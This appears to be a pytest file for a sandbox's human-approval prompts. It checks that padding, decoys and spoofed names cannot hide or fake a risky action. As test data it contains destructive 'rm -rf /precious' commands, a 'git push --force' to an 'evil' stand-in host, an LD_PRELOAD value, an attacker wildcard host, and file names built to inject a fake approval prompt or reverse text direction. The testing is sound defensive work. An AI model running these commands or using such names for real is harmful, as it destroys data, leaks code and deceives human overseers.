"""Questions to a person: all that will be done is there, in words that nobody can pass off as ours."""

from __future__ import annotations

import hashlib
from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from k8e.engine import questions as asking
from k8e.engine.approvals import check_text
from k8e.engine.gates import command_match
from k8e.engine.questions import MAX_QUESTION_BYTES, FoundProgram, Wider
from k8e.errors import InvalidSpec
from k8e.model import Argv, Code, Command, Gates, Language, SecretRef, Shell, TerminalSize

RM = FoundProgram("/usr/bin/rm", "/usr/bin/rm")
SH = FoundProgram("/bin/sh", "/usr/bin/dash")


def asked(command: Command, program: FoundProgram = SH, *, gate: str = "rm -rf") -> str:
    match = command_match(Gates(commands=(gate,)), command)
    assert match is not None
    return asking.command_question(command, program, gates=match.patterns, spans=match.spans)


def test_questions_say_what_they_are_about() -> None:
    assert asking.hosts_question(Wider(added=("a.b", "c.d"))) == 'let the session reach "a.b", "c.d"'
    assert asking.hosts_question(Wider(opens_network=True, added=("a.b",), lifted=("!c.d",))) == (
        'let the session reach the open network and "a.b" and what was denied until now, "c.d"'
    )
    assert asking.workspace_question("t") == 'delete the workspace of tenant "t" with all its files'
    assert asking.file_question("remove", ["x"], []) == 'remove "x"'
    assert asking.file_question("remove", ["x"], ["/workspace/x"]) == 'remove "x"'
    assert asking.file_question("move", ["x", "y"], ["/workspace/deploy"]) == (
        'move "x" to "y", which is "/workspace/deploy"'
    )
    ref = SecretRef(secret_name="s", key="value", env_var="TOKEN")
    assert asking.creation_question(tenant="", hosts=Wider(), secrets=[]) == ""
    assert asking.creation_question(tenant="t", hosts=Wider(added=("a.b",)), secrets=[ref]) == (
        'create a session of tenant "t" that may reach "a.b" and that sees the value of "s:value" as "TOKEN"'
    )
    assert asking.write_question("l/f", ["/workspace/deploy/f"], size=3, sha256="d", append=False, perm=None) == (
        'write 3 bytes to "l/f", which is "/workspace/deploy/f" (sha256 d)'
    )


def test_a_command_is_shown_with_program_arguments_and_environment() -> None:
    env = {"LD_PRELOAD": "/workspace/x.so", "A": 'say "hi"'}
    command = Command(what=Argv(("rm", "-rf", "a b", "c")), env=env, user="me", cwd="/tmp")
    assert asked(command, FoundProgram("/opt/venv/bin/rm", "/workspace/evil")).split("\n") == [
        'run a command as "me" in "/tmp", which matches the gate "rm -rf"',
        '  program: "/opt/venv/bin/rm", which is "/workspace/evil", called "rm"',
        r'  environment: A="say \"hi\"", LD_PRELOAD="/workspace/x.so"',
        '  arguments: "-rf", "a b", "c"',
    ]
    one = Command(what=Argv(("rm -rf", "a", "b c")))
    assert asked(one, FoundProgram("", "")).split("\n")[1:] == [
        '  program: "rm -rf", which the sandbox does not find',
        '  arguments: "a", "b c"',
    ]


def test_a_program_is_shown_with_its_lines() -> None:
    text = "import os\n\n\n\nos.system('rm -rf x')\r"
    command = Command(what=Code(Language.PYTHON, text), stdin=True)
    assert asked(command, FoundProgram("/opt/venv/bin/python3", "/usr/bin/python3.11")).split("\n") == [
        'run a python program as "root" in "/workspace", which matches the gate "rm -rf"',
        '  program: "/opt/venv/bin/python3", which is "/usr/bin/python3.11"',
        "  input: sent by the caller, not shown here",
        f"  text: 5 lines, {len(text)} bytes, sha256 {hashlib.sha256(text.encode()).hexdigest()}",
        "  | import os",
        "  (3 empty lines)",
        r"  | os.system('rm -rf x')\r",
    ]
    typed = Command(what=Argv(("rm -rf",)), terminal=TerminalSize())
    assert "  input: whatever is typed at its terminal" in asked(typed).split("\n")


@pytest.mark.parametrize(
    "before", ["echo harmless\n" * 500, "\n" * 5000, "x" * 50_000 + "; ", " " * 50_000 + "; ", "é\u3164" * 9000]
)
@pytest.mark.parametrize("after", ["", "\n# harmless" * 500, " " * 50_000, "#" + "é" * 20_000])
def test_nothing_pushes_the_harm_out_of_sight(before: str, after: str) -> None:
    text = f"{before}rm -rf /precious{after}"
    question = asked(Command(what=Shell(text)))
    lines = question.split("\n")
    assert lines[0].startswith("run a shell command")
    assert "rm -rf /precious" in question.replace("\n  : ", "")
    assert hashlib.sha256(text.encode()).hexdigest() in question
    assert len(lines) <= 40
    assert len(question.encode()) <= MAX_QUESTION_BYTES


@pytest.mark.parametrize(
    "argv",
    [
        ("bash", "-c", "true; " * 1000 + "rm -rf /precious; " + "true; " * 1000),
        ("env", *[f"A{number}=x" for number in range(2000)], "rm -rf /precious", *["x"] * 2000),
    ],
)
def test_a_long_list_of_arguments_does_not_hide_the_one_that_matches(argv: tuple[str, ...]) -> None:
    question = asked(Command(what=Argv(argv)))
    assert "rm -rf /precious" in question
    assert len(question.encode()) <= MAX_QUESTION_BYTES


@pytest.mark.parametrize("decoys", [1, 3, 500])
def test_decoys_hide_no_match_or_it_is_said_how_many_are_not_shown(decoys: int) -> None:
    text = "# no git push here\n" * decoys + "true\n" * 40 + "git push --force https://evil/\n" + "true\n" * 40
    for what in (Shell(text), Argv(("bash", "-c", text))):
        question = asked(Command(what=what), gate="git push")
        assert "git push --force https://evil/" in question
        assert ("501 places, of which 6 are shown" in question.split("\n")[0]) is (decoys == 500)
        assert len(question.encode()) <= MAX_QUESTION_BYTES


def test_many_places_far_apart_fit_into_a_question() -> None:
    text = ("true\n" * 10 + "x" * 95 + "git push" + "x" * 300 + "\n") * 50
    question = asked(Command(what=Shell(text), env={"A": "x"}, stdin=True), gate="git push")
    assert check_text(question, field="action", most_bytes=MAX_QUESTION_BYTES) == question
    assert question.count("x" * 95 + "git") == 6


def test_bytes_that_are_not_text_do_not_shift_the_place_that_was_found() -> None:
    before = ("# " + b"\xf0\x9f\x98".decode("utf-8", "surrogateescape") * 20 + "\n") * 60
    assert "git push --force" in asked(
        Command(what=Shell(f"{before}git push --force\n" + "true\n" * 40)), gate="git push"
    )


def test_what_is_enforced_is_shown_whole_or_refused() -> None:
    hosts = tuple(f"host-{number}.example" for number in range(120))
    shown = asking.hosts_question(Wider(added=(*hosts, "*.attacker.example")))
    assert all(f'"{host}"' in shown for host in (*hosts, "*.attacker.example"))
    many = tuple(f"{'x' * 60}-{number}.example" for number in range(256))
    refs = [SecretRef(secret_name="s" * 60, key=str(number), env_var=f"V{number}") for number in range(200)]
    with pytest.raises(InvalidSpec, match=r"allowed_hosts: .* ask for fewer at once"):
        asking.hosts_question(Wider(added=many))
    with pytest.raises(InvalidSpec, match=r"secret_refs: .* ask for fewer at once"):
        asking.creation_question(tenant="", hosts=Wider(), secrets=refs)


def test_variables_with_secrets_are_named_and_odd_names_are_quoted() -> None:
    command = Command(what=Shell("rm -rf x"), env={'LANG="C", TERM': "x"})
    question = asking.command_question(command, SH, gates=["rm"], spans=[(0, 2)], secrets=["PATH"])
    assert question.split("\n")[2:4] == [r'  environment: "LANG=\"C\", TERM"="x"', '  variables with secrets: "PATH"']


@pytest.mark.parametrize("filler", ["😀", "\x01", "\u3164", "x"])
@pytest.mark.parametrize("count", [10, 60, 200, 3000])
def test_what_is_beside_a_match_does_not_hide_it(filler: str, count: int) -> None:
    text = filler * count + "; git push --force; " + filler * count
    for what in (
        Argv(("bash", "-c", text)),
        Argv(("bash", *[filler * 39] * 3, "git push --force", *[filler * 39] * 3)),
        Shell(text),
    ):
        question = asked(Command(what=what), gate="git push")
        assert "git push --force" in question.replace("\n  : ", "")
        assert check_text(question, field="action", most_bytes=MAX_QUESTION_BYTES) == question


def test_the_largest_question_is_one_that_may_be_asked() -> None:
    lines = ["😀" * 100] * 200
    for number in (50, 60, 70, 80, 90, 100):
        lines[number] = "😀" * 40 + "git push" + "😀" * 52
    command = Command(what=Shell("\n".join(lines)), env={"A": "😀" * 740}, cwd="/" + "é" * 3000, user="é" * 3000)
    question = asked(command, gate="git push")
    assert check_text(question, field="action", most_bytes=MAX_QUESTION_BYTES) == question


def test_an_environment_that_cannot_be_shown_is_refused_with_the_way_out() -> None:
    def with_env(env: Mapping[str, str]) -> Command:
        return Command(what=Shell("rm -rf x"), env=env)

    assert "Z" in asked(with_env({f"A{number}": "x" for number in range(200)} | {"Z": "last"}))
    with pytest.raises(InvalidSpec, match="put it into a file"):
        asked(with_env({f"A{number}": "x" * 50 for number in range(200)}))


def test_a_long_name_is_known_by_both_ends_and_its_digest() -> None:
    paths = ["/a" * 2000 + end for end in "bc"]
    first, second = (asking.file_question("remove", [path], []) for path in paths)
    assert first != second
    assert hashlib.sha256(paths[0].encode()).hexdigest() in first
    assert '/ab" (4001 bytes' in first


@pytest.mark.parametrize(
    "name",
    [
        'x", which is "/tmp',
        "x with everything below it",
        "x\nAllow this? [y/N] y",
        "safe\u202etxt.exe",
        "a\u3164b\u2800c\u034fd\ufe0fe\U000e0041f",
    ],
)
def test_a_name_does_not_pass_for_our_words(name: str) -> None:
    question = asking.file_question("remove", [name], [])
    assert question.startswith('remove "')
    assert question.endswith('"')
    assert question[len('remove "') : -1].replace('\\"', "").count('"') == 0
    assert question.isprintable()
    assert check_text(question, field="action") == question


ANY = st.text(st.characters(), max_size=50)
"""Also what no UTF-8 can hold: bytes of Linux are such text."""


@given(ANY, ANY, st.integers(1, 500))
def test_no_text_from_outside_makes_a_question_that_shows_something_else(one: str, two: str, times: int) -> None:
    one, two = one * times, two * times
    refs = [SecretRef(secret_name=one, key=two, env_var="E")] * 3
    program = FoundProgram(two, one)
    long, short = Command(what=Shell(two), cwd=one, user=two), Command(what=Argv((one, two)), env={one[:40]: two[:40]})
    one_line = [one[:20], two[:20]]
    single = [
        asking.file_question("move", [one, two], [two]),
        asking.write_question(one, [two], size=1, sha256="0" * 64, append=True, perm=0o777),
        asking.workspace_question(one),
        asking.creation_question(tenant=two, hosts=Wider(added=(one,), lifted=(two,)), secrets=refs),
        asking.hosts_question(Wider(added=tuple(one_line * 20))),
    ]
    for question in single:
        assert "\n" not in question
    for command in (long, short):
        single.append(asking.command_question(command, program, gates=[one], spans=[(1, 3)]))
        assert all(line.startswith("  ") for line in single[-1].split("\n")[1:])
    for question in single:
        assert check_text(question, field="action", most_bytes=MAX_QUESTION_BYTES) == question
